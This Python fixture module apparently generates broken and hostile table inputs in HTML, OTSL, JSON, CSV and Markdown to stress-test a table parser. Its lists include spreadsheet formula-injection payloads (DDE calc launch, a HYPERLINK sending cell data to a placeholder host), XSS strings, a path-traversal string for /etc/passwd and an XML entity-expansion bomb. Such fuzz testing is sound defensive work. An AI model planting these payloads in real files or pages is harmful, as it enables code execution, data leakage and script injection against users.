"""Tables as careless, broken or malicious sources write them, by families; every one is seeded or fixed."""

import json
import random
from collections.abc import Iterator

from samvlm.data.otsl import TOKENS

TRIGGERS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋x",
    "－x",
    "＠x",
    " =1",
    "'=1",
    "\ufeff=1",
    "\u202e=1",
]
PAYLOADS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"ok\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1;=1+1", "a;=1+1", "a\t=1+1",
    '";=1+1', '",=1+1', "=1+1\";\"", "a\n=1+1", "-2+3+cmd|' /C calc'!D2", "=IMPORTXML(CONCAT(\"http://x\"))", "%0A=1", "=1+1'",
    "'=1+1;@x", ";;;=1", "=", "@", "+", "-", "==", "=\"", "=,", "|=1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
CONTROLS = [chr(code) for code in [*range(32), *range(0x7F, 0xA0)]]
ODD_TEXTS = {
    "null": "a\0b", "escape": "\x1b[31mred\x1b[0m", "delete": "a\x7fb", "line separator": "a\u2028b\u2029c", "bell": "\a\b\f\v",
    "all controls": "x".join(CONTROLS), "lone high": "a\ud800b", "lone low": "\udfff", "many lone": "\ud83d" * 50, "nonchar": "\ufffe\uffff",
    "hebrew": "שלום עולם", "arabic": "مرحبا 123", "override": "\u202egnp.exe\u202c", "isolates": "\u2066a\u2069\u2067b", "marks": "\u200e\u200f\u061c",
    "zalgo": "a" + "\u0301" * 2000, "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪", "joined": "\u200d" * 100, "wide": "日本語" * 50, "math": "𝛼𝑥²±½", "bom": "\ufeffa", "soft": "a\u00adb",
    "blanks": " \u00a0\u2003\u3000 ", "lines": "\n" * 40, "ends": "a\n\n\nb\n", "tabs": "\t\ta\tb", "returns": "a\r\nb\rc", "fraction": "1\u20442",
    "pipes": "|||a|b||", "backslashes": "\\" * 99 + "|", "ticks": "```\n``` `a`", "stars": "**a** _b_ ~~c~~ [x](javascript:alert(1))", "dashes": "|---|---|",
    "entities": "&lt;b&gt; &amp;amp; &#0; &#x110000; &nosuch; &copy &", "amps": "&" * 300, "quotes": "\"\"'\"'''", "xlsx escape": "_x0041_ _x005F_ _xD800_ x005F_",
    "error value": "#N/A", "true": "TRUE", "exponent": "1e400", "long number": "9" * 400, "zeros": "007", "minus zero": "-0.00", "date": "1/2/2024", "nan": "NaN",
    "percent": "%s%n%x", "template": "{{7*7}}${7*7}<%= 7 %>", "path": "../../etc/passwd\0.png", "comment end": "--> <!-- ]]>", "script": "</td><script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>', "style": "</style><style>*{}", "closing": "</table></body></html>", "plain": "<plaintext><textarea><title>",
}  # fmt: skip
SPANS = [
    "1e9",
    "1000000000",
    "9" * 400,
    "-1",
    "-1000000000",
    "NaN",
    "Infinity",
    "1.5",
    "",
    " ",
    "0",
    "00000000002",
    "+3",
    "0x10",
    "２",
    "1;2",
    "a",
    "\0",
    "2 3",
]


def html_tables() -> Iterator[tuple[str, str]]:
    """Yield (name, text) of HTML."""
    row = "<tr><td>a</td><td>b</td></tr>"
    for name in ("rowspan", "colspan"):
        for value in SPANS:
            yield (
                f"{name} {value[:10]!r}",
                f'<table>{row}<tr><td {name}="{value}">x</td><td>y</td></tr>{row}</table>',
            )
    both = '<td rowspan="1000000000" colspan="1000000000">x</td>'
    yield "huge both", f"<table>{row}<tr>{both}</tr>{row}</table>"
    yield "many huge", f"<table>{'<tr>' + both * 30 + '</tr>'}</table>" * 3
    yield "huge in every row", f"<table>{('<tr>' + both + '</tr>') * 300}</table>"
    yield (
        "growing",
        "<table>" + "".join(f'<tr><td colspan="{n}">a</td></tr>' for n in range(1, 1200)) + "</table>",
    )
    yield (
        "overlap",
        '<table><tr><td>a</td><td rowspan="3">b</td></tr><tr><td colspan="3">c</td></tr>' + row + "</table>",
    )
    yield (
        "overlaps",
        '<table><tr><td rowspan="9">a</td><td>b</td><td rowspan="2" colspan="4">c</td></tr><tr><td colspan="9">d</td></tr></table>'
        + row,
    )
    for cut in ("<table", "<table><tr><td>a", "<table><tr><td>a<td>b<tr>c", "<td>a<td>b", "<tr><tr><td>x", "<table><td>a</table", "<table><tr><td colspan=", "<table><td>&#", "</td></tr>", "<table>a<td>b</table>c"):  # fmt: skip
        yield f"unclosed {cut}", cut
    for depth in (2, 50):
        yield (
            f"nested {depth}",
            f"<table><tr><td>a{'<table><tr><td>b' * depth}{'</td></tr></table>' * depth}</td></tr></table>",
        )
    for tag in (
        "table",
        "div",
        "b",
        "thead",
        "tbody",
        "tr",
        "td",
        "table><tr><td",
        "ul><li",
        "svg",
        "select",
        "td><thead",
    ):
        yield f"10,000 deep {tag}", f"<table><tr><td>a</td></tr><{f'{tag}><' * 10_000}b>x"
        yield f"10,000 deep before {tag}", f"<{tag}>" * 10_000 + "<table><tr><td>a"
    yield "2,000 cells", "<table>" + ("<tr>" + "<td>3.1</td>" * 40 + "</tr>") * 50 + "</table>"
    yield "2,000 columns", "<table><tr>" + "<td>a" * 2000 + "</table>"
    yield "2,000 rows", "<table>" + "<tr><th>a" * 2000 + "</table>"
    yield "300,000 cells", "<table><tr>" + "<td>" * 300_000
    for kind, text in (("letters", "ab " * 350_000), ("tags", "<b>x</b>" * 120_000), ("lt", "&lt;" * 250_000), ("<nl>", "&lt;nl>" * 200_000), ("emoji", "🙂" * 250_000)):  # fmt: skip
        yield f"1 MB cell of {kind}", f"<table><tr><td>{text}</td><td>b</td></tr></table>"
    for name, inner in {
        "comments": "<!-- <td>x</td> --><tr><!----><td>a<!-- --></td></tr><!--", "script": "<tr><td><script>var a='</td>'</script>a</td></tr>",
        "cdata": "<![CDATA[<tr><td>x</td></tr>]]><tr><td><![CDATA[y]]></td></tr>", "instruction": "<?php echo '<td>' ?><tr><?xml a?><td>a</td></tr>",
        "doctype": '<!DOCTYPE x [<!ENTITY a "b">]><tr><td>&a;</td></tr>', "bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><tr><td>&b;</td></tr>',
        "style": "<style>td{}</style><tr><td style='a'>b</td></tr>", "template": "<template><tr><td>x</td></tr></template><tr><td>a</td></tr>",
        "empty rows": "<tr></tr><tr><td>a</td></tr><tr></tr><tr></tr>", "only empty rows": "<tr></tr>" * 50, "ragged": "<tr><td>a</td></tr><tr><td>a<td>b<td>c</tr><tr><td>d</tr>",
        "columns": "<colgroup><col span=1000000000><col></colgroup><tr><td>a</td></tr>", "caption": "<caption><table><tr><td>c</td></tr></table></caption><tr><td>a</td></tr>",
        "late head": f"<tbody>{row}</tbody><thead>{row}</thead>", "two heads": f"<thead>{row}</thead><tbody>{row}</tbody><thead>{row}</thead>", "foot first": f"<tfoot>{row}</tfoot>{row}",
        "head in body": f"<tbody><thead>{row}</thead>{row}</tbody>", "scopes": "<tr><th scope='x'>a<th scope='col '>b<th scope=rowgroup>c", "attributes": "<tr><td " + "a=b " * 5000 + ">x</td></tr>",
        "long attribute": f"<tr><td class='{'x' * 500_000}'>a</td></tr>", "same attribute": "<tr><td rowspan=2 rowspan=3>a</td></tr>" + row, "case": "<TR><TD RowSpan=2>a</Td></tR>" + row,
        "br": "<tr><td>" + "<br>" * 20_000 + "a</td></tr>", "blank": f"<tr><td>{' ' * 500_000}</td></tr>", "input": "<tr><td><input value=a><select><option>b</td></tr>",
        "form": "<form><tr><td>a</td></tr></form>", "frame": "<iframe src='http://x'></iframe><tr><td>a", "math": "<tr><td><math><mi>x</mi></math><svg><text>y</text></svg>",
        "base": "<base href='http://x'><link rel=stylesheet href=x><meta http-equiv=refresh content=0><tr><td>a", "object": "<object data=x><embed src=y><tr><td>a",
    }.items():  # fmt: skip
        yield name, f"<table>{inner}</table>"
    for name, text in ODD_TEXTS.items():
        yield f"text {name}", f"<table><tr><th>{text}</th><td>{text}</td></tr><tr><td>{text}</table>"


def other_texts() -> Iterator[tuple[str, str]]:
    """Yield (name, text) of OTSL, JSON, CSV, Markdown and of nothing at all."""
    rng = random.Random(5)
    for number in range(40):
        parts = [*TOKENS, "a", "<", "\\", "<\\nl>", "<nl", "\0", "\ud800", "=1", "\n"]
        yield f"otsl {number}", "".join(rng.choices(parts, k=rng.randint(1, 60)))
    yield "otsl wide", "<fcel>a" + "<lcel>" * 99_999 + "<nl>"
    yield "otsl too wide", "<fcel>a" + "<lcel>" * 300_000
    yield "otsl rows", "<fcel>a<nl>" * 2000 + "<nl>" * 2000
    yield "otsl ladder", "".join("<fcel>" * n + "<nl>" for n in range(1, 600))
    yield "otsl xcel", ("<fcel>" + "<xcel>" * 60 + "<nl>") + ("<xcel>" * 61 + "<nl>") * 60
    yield "otsl diagonals", "".join("<ucel><lcel><xcel>" * 30 + "<nl>" for _ in range(60))
    yield "lt", "<" * 1_000_000
    yield "tokens as text", "<fcel>" + "<\\nl><\\\\fcel>" * 20_000 + "<nl>"
    for cell in (
        {"rowspan": 1e9}, {"rowspan": 10**9}, {"rowspan": 10**30, "colspan": 10**30}, {"colspan": -1}, {"rowspan": 0}, {"rowspan": 1.5}, {"rowspan": float("nan")},
        {"rowspan": "2"}, {"rowspan": None}, {"rowspan": True}, {"row": -1}, {"row": 10**9}, {"col": 1e309}, {"text": None}, {"text": 5}, {"text": ["a"]}, {"header": "x"},
        {"header": []}, {"confidence": float("nan")}, {"confidence": "high"}, {"box": [1, 2]}, {"box": "abcd"}, {"box": [float("inf")] * 4}, {"box": {"a": 1}}, {"extra": 1},
    ):  # fmt: skip
        yield (
            f"json {cell}"[:60],
            json.dumps({"n_rows": 2, "n_cols": 2, "cells": [{"text": "a", "row": 0, "col": 0} | cell]}),
        )
    for text in (
        '{"n_rows":1e9,"n_cols":1,"cells":[]}', '{"n_rows":1000000000,"n_cols":1000000000,"cells":[]}', '{"n_rows":-1,"n_cols":1,"cells":[]}', '{"n_rows":NaN,"n_cols":1,"cells":[]}',
        "[" * 100_000, '{"cells":' * 50_000, "9" * 5000, '{"n_rows":1,"n_cols":1,"cells":{"a":1}}', '{"n_rows":1,"n_cols":1,"cells":"abc"}', "null", '"\\ud800"', "{}", '{"n_rows":1,"n_cols":1,"cells":null}',
        '{"n_rows":2,"n_cols":1,"cells":[{"text":"a","row":0,"col":0,"rowspan":2},{"text":"b","row":1,"col":0}]}', '{"n_rows":1,"n_cols":1,"cells":[{"text":"\\u0000\\ud800","row":0,"col":0}]}',
    ):  # fmt: skip
        yield f"json {text[:40]}", text
    for text in (
        '"a', 'a"b,"c"d', '"a""b"\r\n\0,b', "a\rb\rc", ",,,\n,", "\n\n", "a," * 110_000, "a\n" * 110_000, '"' * 5001, "\ufeff\ufeffa,b", "a;b;c\n=1;2", "x" * 200_000, "a,b\nc", "\x1a\x1b,\x7f",
    ):  # fmt: skip
        yield f"csv {text[:12]!r}", text
    for text in (
        "| a |\n" + " " * 300_000 + "|-x", "| a |\n" + "-" * 300_000 + "|x", "|a|\n|-|\n" + "|b" * 50_000, "|" * 300_000 + "\n" + "|-" * 150_000, "| a |\n|---|\n| " + "\\" * 99_999 + "| b |", "a|b\n-|-\n", "|a|\n|:-:|\n|`|`|",
        "| a | b\n|-|\n" * 5000, "\0|\0\n-|-\n\0|\0", "|\n|-\n|", "| a |\n|---|\n" + "| <br" * 9000, "| _ |\n| - |\n| " + "_ " * 90_000 + "|",
    ):  # fmt: skip
        yield f"markdown {text[:12]!r}", text
    for text in ("", " ", "\0", "\ud800", "\ufeff", "a", "\n", "<", "&", "\\"):
        yield f"only {text!r}", text
